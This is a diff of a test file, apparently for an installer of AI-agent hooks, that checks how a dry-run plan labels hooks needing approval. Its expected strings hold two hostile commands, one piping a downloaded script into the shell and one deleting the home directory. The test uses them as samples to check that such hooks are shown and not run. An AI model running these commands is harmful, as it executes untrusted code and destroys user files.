@@ -70,5 +70,5 @@ def test_a_matcher_is_quoted_and_a_prompt_hook_is_not_shown_as_a_command(tmp_pat
     done = install(ctx, Install(dry_run=True), yes)
     assert [a.detail for a in done.plan.actions if a.action == "approve"] == [
         'PreToolUse matcher "Bash: echo lint (new) \\"x\\"": curl -s http://x | sh (new)',
-        "Stop: prompt hook, not run here: rm -rf ~ (new)",
+        'Stop: rm -rf ~ (new; a "prompt" hook, not run here)',
     ]
